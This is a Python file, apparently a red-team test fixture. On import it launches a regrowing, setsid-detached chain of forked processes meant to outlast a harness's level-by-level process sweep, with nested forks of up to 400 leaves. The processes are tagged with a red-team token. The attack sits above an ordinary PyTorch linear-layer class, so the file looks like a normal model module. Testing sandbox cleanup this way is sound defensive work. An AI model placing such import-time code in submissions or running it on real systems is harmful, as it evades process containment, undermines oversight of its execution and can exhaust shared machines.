"""Attack: a setsid chain that regrows faster than a level-by-level sweep."""
import ctypes
import os
import time

import torch
from torch import Tensor, nn

TOKEN = b"__REDTEAM_TOKEN__"
DEPTH, REGROW, LEAVES = 40, 50, 400
libc = ctypes.CDLL(None)


def tag():
    libc.prctl(15, TOKEN, 0, 0, 0)  # PR_SET_NAME: the harness finds what is left by it


def new_session():
    try:
        os.setsid()
    except OSError:
        pass  # refused (seccomp): the chain stays in the worker's process group


def bottom():
    for _ in range(LEAVES):
        if os.fork() == 0:
            new_session()
            time.sleep(0.3)
            os._exit(0)
        time.sleep(0.02)
        try:
            while os.waitpid(-1, os.WNOHANG)[0]:
                pass
        except ChildProcessError:
            pass
    os._exit(0)


def level(depth):
    """Become level `depth`: fork the next level and fork it again whenever it dies."""
    while True:
        tag()
        new_session()
        if depth == DEPTH:
            bottom()
        for _ in range(REGROW):
            child = os.fork()
            if child == 0:
                break
            os.waitpid(child, 0)
        else:
            os._exit(0)
        depth += 1


if os.fork() == 0:
    try:
        level(1)
    finally:
        os._exit(0)
time.sleep(0.3)


class MyLinear(nn.Module):
    def __init__(self, in_features: int, out_features: int, bias: bool = True):
        super().__init__()
        self.in_features = in_features
        self.out_features = out_features
        self.weights = nn.Parameter(torch.randn(in_features, out_features))
        if bias:
            self.bias = nn.Parameter(torch.randn(out_features))
        else:
            self.register_parameter("bias", None)

    def forward(self, x: Tensor) -> Tensor:
        y = x @ self.weights
        if self.bias is not None:
            y = y + self.bias
        return y
